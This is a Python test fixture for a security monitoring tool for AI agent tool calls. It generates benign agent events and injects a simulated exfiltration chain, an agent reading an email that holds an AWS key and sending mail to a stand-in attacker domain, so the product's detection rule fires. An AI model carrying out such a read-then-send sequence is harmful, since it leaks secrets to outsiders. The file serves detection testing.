"""Build a real data dir for the dashboard tests and benchmark through the product's own write
path: events go through `ingest.pipeline.Ingestor` (validate, redact, chain, WAL, segments,
signed checkpoints) and alerts come from `detect.engine.DetectionEngine` over the stored records.

The traffic holds benign sessions of a few principals plus one injected exfiltration chain:
session EXFIL_SESSION reads mail, then mails it to an outside domain (rule TT-EXFIL-001).
"""

from __future__ import annotations

import random
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

EXFIL_SESSION = "sess-exfil-0042"
EXFIL_PRINCIPAL = "mallory@acme.example"
PRINCIPALS = ("alice@acme.example", "bob@acme.example", "carol@acme.example", "svc-ci", "svc-reporting")
BENIGN_TOOLS = (
    ("github", "list_issues", lambda r: {"repo": "acme/web", "state": "open"}),
    ("github", "get_file_contents", lambda r: {"repo": "acme/web", "path": f"src/mod{r.randint(1, 40)}.py"}),
    ("filesystem", "list_directory", lambda r: {"path": "/srv/app"}),
    ("slack", "list_channels", lambda r: {}),
    ("postgres", "list_tables", lambda r: {}),
    ("jira", "search_issues", lambda r: {"jql": "project = WEB"}),
    ("docs", "search", lambda r: {"q": "deploy checklist"}),
)


@dataclass
class Built:
    config: Any
    events: int
    alerts: list[Any]
    exfil_alert_id: str | None
    exfil_events: list[dict[str, Any]]
    start: datetime
    end: datetime


def _benign(rnd: random.Random, ts: datetime, i: int) -> dict[str, Any]:
    principal = rnd.choice(PRINCIPALS)
    server, tool, args = rnd.choice(BENIGN_TOOLS)
    deny = rnd.random() < 0.03
    return {"event_id": f"bench-{i}", "ts": ts.isoformat().replace("+00:00", "Z"), "principal": principal,
            "agent": "claude-code", "session": f"sess-{principal.split('@')[0]}-{i // 40}", "server": server,
            "tool": tool, "args": args(rnd), "decision": "deny" if deny else "allow",
            "scope_checked": f"{server}:read", "result": "denied" if deny else "ok",
            "latency_ms": rnd.randint(5, 400), "result_bytes": rnd.randint(100, 20000)}


def exfil_chain(t0: datetime) -> list[dict[str, Any]]:
    base = {"principal": EXFIL_PRINCIPAL, "agent": "claude-desktop", "session": EXFIL_SESSION, "token_id": "tok-77"}

    def at(s: float) -> str:
        return (t0 + timedelta(seconds=s)).isoformat().replace("+00:00", "Z")

    return [
        {**base, "event_id": "exfil-1", "ts": at(0), "server": "fetch", "tool": "fetch",
         "args": {"url": "https://docs.example.org/howto"}, "decision": "allow", "result": "ok", "latency_ms": 120},
        {**base, "event_id": "exfil-2", "ts": at(8), "server": "github", "tool": "create_issue",
         "args": {"repo": "acme/web", "title": "x"}, "decision": "deny", "scope_checked": "repo:write",
         "result": "denied", "reason": "scope repo:write not granted"},
        {**base, "event_id": "exfil-3", "ts": at(20), "server": "gmail", "tool": "read_email",
         "args": {"id": "msg-8812", "note": "aws key AKIAIOSFODNN7EXAMPLE in thread"}, "decision": "allow",
         "result": "ok", "latency_ms": 95, "result_bytes": 18250},
        {**base, "event_id": "exfil-4", "ts": at(45), "server": "gmail", "tool": "send_email",
         "args": {"to": "drop@evil-mail.net", "subject": "fwd: quarterly numbers", "body": "see below"},
         "decision": "allow", "result": "ok", "latency_ms": 310},
    ]


def build(data_dir: Path | str, *, benign: int = 600, span: timedelta = timedelta(hours=3),
          end: datetime | None = None, seed: int = 7, chain_id: str = "local", batch: int = 5000) -> Built:
    """Write `benign` events spread over `span` up to `end` (default: now) plus the exfiltration
    chain near the end, run the detectors over them, and return what was built."""
    from detect.engine import DetectionEngine
    from ingest.pipeline import Ingestor
    from tooltrail.config import load_config

    cfg = load_config(None, data_dir=str(data_dir), env={})
    rnd = random.Random(seed)
    end = (end or datetime.now(UTC)) - timedelta(seconds=5)
    start = end - span
    step = span / max(1, benign)
    t_exfil = end - timedelta(minutes=20)
    ing = Ingestor.open(cfg, chain_id)
    engine = DetectionEngine.from_config(cfg, with_stats=False)
    stored = 0
    exfil_records: list[dict[str, Any]] = []
    pending = exfil_chain(t_exfil)
    try:
        items: list[dict[str, Any]] = []
        for i in range(benign):
            ts = start + step * i
            while pending and pending[0]["ts"] <= ts.isoformat().replace("+00:00", "Z"):
                items.append(pending.pop(0))
            items.append(_benign(rnd, ts, i))
            if len(items) >= batch:
                res = ing.submit(items, source="test-gateway")
                stored += res.stored
                engine.process(res.records)
                exfil_records += [r for r in res.records if r.get("session") == EXFIL_SESSION]
                items = []
        items += pending
        # three malformed events: they must land in quarantine with their reasons
        items += [{"ts": end.isoformat(), "session": "s", "tool": "t", "decision": "allow"},
                  {"ts": end.isoformat(), "principal": "p", "session": "s", "tool": "t", "decision": "maybe"},
                  {"ts": "yesterday", "principal": "p", "session": "s", "tool": "t", "decision": "allow"}]
        if items:
            res = ing.submit(items, source="test-gateway")
            stored += res.stored
            engine.process(res.records)
            exfil_records += [r for r in res.records if r.get("session") == EXFIL_SESSION]
        ing.flush()
    finally:
        ing.close()
    alerts = engine.store.alerts()
    engine.save_state()
    exfil = next((a for a in alerts if a.rule_id == "TT-EXFIL-001"), None)
    return Built(cfg, stored, alerts, exfil.alert_id if exfil else None, exfil_records, start, end)
